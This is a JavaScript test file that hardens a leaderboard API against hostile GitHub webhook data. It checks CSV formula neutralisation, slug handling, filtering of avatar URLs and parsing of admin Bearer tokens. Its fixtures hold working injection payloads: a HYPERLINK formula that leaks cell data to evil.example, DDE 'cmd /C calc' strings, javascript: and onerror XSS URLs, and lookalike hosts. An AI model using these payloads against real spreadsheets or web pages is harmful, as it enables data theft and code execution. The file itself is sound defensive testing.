// Hostile input through the API (hardening issue): team names, slugs and
// label names built to become spreadsheet formulas, slugs with characters
// outside [A-Za-z0-9._-], avatar URLs of other hosts and schemes, and the
// admin routes' Authorization header in the forms RFC 7235 allows. Every
// value is loaded through signed webhooks, as GitHub (or a forged but
// signed payload) would deliver it.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startStack } from './harness.mjs';
import { deliver, makePR } from './webhooks.mjs';
import { parseCSV } from './api-model.mjs';

const SECRET = 'hostile-secret';
const TOKEN = 'hostile-admin-token';
const ORG = { id: 7001, login: 'acme' };
const REPO = { id: 7101, name: 'core', owner: { login: 'acme', id: 7001 } };

// Team slugs outside [A-Za-z0-9._-], and names and labels that a
// spreadsheet would run, with ',' ';' '|' TAB and line breaks before the
// formula so that whatever separator the reader splits on, a cell starts
// with it; the full-width forms too.
const TEAMS = [
  { id: 71, slug: 'acme corp', name: '=HYPERLINK("https://evil.example/?leak="&A1,"click")' },
  { id: 72, slug: '=1+2', name: 'x;=1+2' },
  { id: 73, slug: 'a/b', name: '@SUM(1,2)' },
  { id: 74, slug: '.hidden', name: '+cmd|\' /C calc\'!A0' },
  { id: 75, slug: 'x.sql', name: '-2+3' },
  { id: 76, slug: '50%off', name: '\t=1+1' },
  { id: 77, slug: 'q?x=1#frag', name: 'a|=1,b\r\n=2' },
  { id: 78, slug: 'über-tëam', name: '\uFF1D1+1 full-width' },
  { id: 79, slug: 'plus+amp&eq=', name: ' \t "=1+1" spaced and quoted' },
  { id: 80, slug: 'semi;colon', name: 'Plain, Inc.' },
];
const LABELS = ['x;=1+2', '=cmd|\' /C calc\'!A0', '+1', '-', '@here', 'a,=b', 'c|=d', 'e\t=f',
  '\uFF20at \uFF0Bplus \uFF0Dminus', 'g\n=h', 'safe label'];
const AVATAR = {
  github: 'https://avatars.githubusercontent.com/u/7201?v=4',
  numbered: 'https://avatars1.githubusercontent.com/u/7202?v=4',
  upper: 'HTTPS://AVATARS.GITHUBUSERCONTENT.COM/u/7203?v=4',
  tracker: 'https://tracker.example/pixel.gif?u=7204',
  data: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
  plain: 'http://avatars.githubusercontent.com/u/7206',
  suffix: 'https://avatars.githubusercontent.com.evil.example/u/7207',
  userinfo: 'https://avatars.githubusercontent.com@evil.example/u/7208',
  nested: 'https://evil.example/https://avatars.githubusercontent.com/u/7209',
  script: 'javascript:alert(1)',
  quote: 'https://avatars.githubusercontent.com/u/7211"onerror="alert(1)',
};
const KEPT = new Set(['github', 'numbered', 'upper']);
// one member per team, with the avatar of the same index
const USERS = TEAMS.map((t, i) => ({ id: 7201 + i, login: `dev${i}`, type: 'User',
  avatar_url: Object.values(AVATAR)[i % Object.keys(AVATAR).length], team: t }));
USERS.push({ id: 7299, login: 'spare', type: 'User', avatar_url: AVATAR.quote, team: TEAMS[0] });
const avatarKind = (url) => Object.keys(AVATAR).find((k) => AVATAR[k] === url);

let s;
async function hook(event, payload) {
  const r = await deliver(s, event, payload, { secret: SECRET });
  assert.equal(r.status, 202, `${event}: ${r.text}`);
}

before(async () => {
  s = await startStack({
    sets: {
      'github.webhook_secret': SECRET, 'github.partner_org': ORG.login,
      'github.repositories': 'acme/core', 'api.admin_token': TOKEN,
    },
  });
  for (const t of TEAMS) await hook('team', { action: 'created', team: { ...t }, organization: ORG, sender: USERS[0] });
  for (const u of USERS) {
    const { team, ...member } = u;
    await hook('membership', { action: 'added', scope: 'team', member, team: { ...team }, organization: ORG, sender: USERS[0] });
  }
  await s.sql('UPDATE memberships SET started_at = NULL');
  // one merged PR per member, with a few of the labels each
  for (const [i, u] of USERS.entries()) {
    const { team: _t, ...user } = u;
    const labels = [LABELS[i % LABELS.length], LABELS[(i + 3) % LABELS.length]]
      .map((name, k) => ({ id: 7400 + i * 2 + k, name, color: 'ededed' }));
    const at = `2024-03-${String(i + 1).padStart(2, '0')}T10:00:00Z`;
    await hook('pull_request', makePR({ id: 7500 + i, number: 1 + i, repo: REPO, user, labels,
      action: 'closed', state: 'closed', created_at: at, updated_at: at, closed_at: at, merged_at: at }));
  }
});
after(() => s && s.stop());

// ---------------------------------------------------------------- CSV

const FORMULA = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
// ...also after the blanks and quotes a reader may strip first
const HIDDEN_FORMULA = /^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

// RFC 4180 with any separator: a field that starts with '"' is quoted
// ("" escapes a quote), any other runs to the next separator or line end.
// lineFirst: split into lines before anything else, as a naive reader does.
function parseWith(text, sep, lineFirst) {
  const rows = [];
  const lines = lineFirst ? text.split(/\r\n|\r|\n/) : [text];
  for (const chunk of lines) {
    let row = [], f = '', i = 0, quoted = false, start = true;
    while (i < chunk.length) {
      const c = chunk[i];
      if (quoted) {
        if (c === '"' && chunk[i + 1] === '"') { f += '"'; i += 2; continue; }
        if (c === '"') { quoted = false; i++; continue; }
        f += c; i++; continue;
      }
      if (start && c === '"') { quoted = true; start = false; i++; continue; }
      start = false;
      if (c === sep) { row.push(f); f = ''; start = true; i++; continue; }
      if (!lineFirst && (c === '\r' || c === '\n')) {
        if (c === '\r' && chunk[i + 1] === '\n') i++;
        row.push(f); rows.push(row); row = []; f = ''; start = true; i++; continue;
      }
      f += c; i++;
    }
    if (f !== '' || row.length) { row.push(f); rows.push(row); }
  }
  return rows;
}

test('leaderboard.csv: no cell starts a formula, whatever separator or line splitting the reader uses', async () => {
  const lb = (await s.get('/api/leaderboard?period=all')).json;
  assert.equal(lb.teams.length, TEAMS.length, 'every team is ranked');
  const r = await s.get('/api/leaderboard.csv?period=all');
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^text\/csv/);
  // the scenario is hostile enough: before neutralising, some cell in every split starts a formula
  const text = r.text;
  for (const sep of [',', ';', '\t', '|']) {
    for (const lineFirst of [false, true]) {
      const what = `separator ${JSON.stringify(sep)}${lineFirst ? ', lines split first' : ''}`;
      for (const row of parseWith(text, sep, lineFirst)) {
        for (const cell of row) {
          assert.doesNotMatch(cell, FORMULA, `${what}: cell ${JSON.stringify(cell)}`);
          assert.doesNotMatch(cell, HIDDEN_FORMULA, `${what}: cell ${JSON.stringify(cell)}`);
        }
      }
    }
  }
  // RFC 4180 with ',' still gives the leaderboard: same rows, numbers as
  // they are, text cells with the same characters apart from the added "'"
  const [head, ...rows] = parseCSV(text);
  assert.deepEqual(head, ['rank', 'id', 'slug', 'name', 'members', 'created', 'merged', 'rejected',
    'open', 'partner_created', 'oss_created', 'points', 'labels']);
  assert.equal(rows.length, lb.teams.length);
  const strip = (x) => x.replaceAll("'", '');
  for (const [i, t] of lb.teams.entries()) {
    const row = rows[i];
    for (const k of ['rank', 'id', 'members', 'created', 'merged', 'rejected', 'open', 'partner_created',
      'oss_created', 'points']) assert.equal(row[head.indexOf(k)], String(t[k]), `${t.slug} ${k}`);
    assert.equal(strip(row[2]), strip(t.slug));
    assert.equal(strip(row[3]), strip(t.name));
    assert.equal(strip(row[12]), strip(t.labels.map((l) => `${l.name}:${l.count}`).join('; ')));
  }
  // every text cell is quoted: the raw file has '"' right after each ',' before a text column
  const raw = text.split('\r\n')[1];
  assert.match(raw, /^\d+,\d+,"/);
  // the JSON keeps the values exactly as delivered
  assert.deepEqual(lb.teams.map((t) => t.name).sort(), TEAMS.map((t) => t.name).sort());
});

// ---------------------------------------------------------------- slugs

test('every slug the leaderboard shows opens its drill-down, and filters contributors and monthly', async () => {
  const lb = (await s.get('/api/leaderboard?period=all')).json;
  assert.deepEqual(lb.teams.map((t) => t.slug).sort(), TEAMS.map((t) => t.slug).sort());
  for (const t of lb.teams) {
    const enc = encodeURIComponent(t.slug);
    const r = await s.get(`/api/teams/${enc}?period=all`);
    assert.equal(r.status, 200, `${t.slug}: ${r.text}`);
    assert.equal(r.json.slug, t.slug);
    assert.equal(r.json.name, t.name);
    assert.equal(r.json.merged, t.merged);
    assert.deepEqual(r.json.members.map((m) => m.login).sort(),
      USERS.filter((u) => u.team.slug === t.slug).map((u) => u.login).sort(), t.slug);
    const c = await s.get(`/api/contributors?period=all&team=${enc}`);
    assert.equal(c.status, 200, `${t.slug}: ${c.text}`);
    assert.equal(c.json.contributors.length, r.json.members.length, t.slug);
    const m = await s.get(`/api/stats/monthly?year=2024&team=${enc}`);
    assert.equal(m.status, 200, `${t.slug}: ${m.text}`);
    assert.equal(m.json.rows.merged.total, t.merged, t.slug);
  }
  // unknown slugs stay 404 (a JSON error); a malformed escape is nginx's 400, as JSON
  for (const p of [encodeURIComponent('acme corp2'), encodeURIComponent('a/b/c'), 'a%2F']) {
    const r = await s.get(`/api/teams/${p}`);
    assert.equal(r.status, 404, p);
    assert.equal(r.json.error.code, 'not_found', p);
  }
  const bad = await s.get('/api/teams/%ZZ');
  assert.equal(bad.status, 400);
  assert.equal(bad.json.error.code, 'bad_request');
});

// ---------------------------------------------------------------- avatars

test('avatar_url is GitHub\'s avatar host or null, also for rows stored before (output filtering)', async () => {
  const c = (await s.get('/api/contributors?period=all')).json.contributors;
  assert.equal(c.length, USERS.length);
  const seen = new Set();
  for (const row of c) {
    const u = USERS.find((x) => x.login === row.login);
    const kind = avatarKind(u.avatar_url);
    seen.add(kind);
    assert.equal(row.avatar_url, KEPT.has(kind) ? u.avatar_url : null, `${row.login} (${kind})`);
  }
  assert.deepEqual([...seen].sort(), Object.keys(AVATAR).sort(), 'every kind of URL was tried');
  for (const t of TEAMS) {
    const r = (await s.get(`/api/teams/${encodeURIComponent(t.slug)}`)).json;
    for (const m of r.members) {
      const u = USERS.find((x) => x.login === m.login);
      assert.equal(m.avatar_url, KEPT.has(avatarKind(u.avatar_url)) ? u.avatar_url : null, m.login);
    }
  }
  // the database keeps what was delivered: the filter is on the way out
  const [[stored]] = await s.sql(`SELECT avatar_url FROM users WHERE id = ${USERS.find((u) => u.avatar_url === AVATAR.tracker).id}`);
  assert.equal(stored, AVATAR.tracker);
});

// ---------------------------------------------------------------- admin auth

test('admin routes: the Bearer scheme in any case, blanks per RFC 7235, the token exact', async () => {
  const path = '/api/admin/jobs';
  for (const h of [`Bearer ${TOKEN}`, `bearer ${TOKEN}`, `BEARER ${TOKEN}`, `bEaReR ${TOKEN}`,
    `Bearer   ${TOKEN}`, `Bearer\t${TOKEN}`, `bearer ${TOKEN}  `]) {
    const r = await s.get(path, { Authorization: h });
    assert.equal(r.status, 200, `${JSON.stringify(h)}: ${r.text}`);
  }
  for (const h of [`Bearer ${TOKEN}x`, `bearer ${TOKEN.toUpperCase()}`, `Bearer${TOKEN}`, `Basic ${TOKEN}`,
    `Token ${TOKEN}`, 'Bearer', 'Bearer ', `Bearer ${TOKEN} extra`, `Bearer x ${TOKEN}`, TOKEN,
    `Bearers ${TOKEN}`]) {
    const r = await s.get(path, { Authorization: h });
    assert.equal(r.status, 401, JSON.stringify(h));
    assert.equal(r.json.error.code, 'unauthorized');
    assert.match(r.headers.get('www-authenticate') || '', /^Bearer/);
  }
});
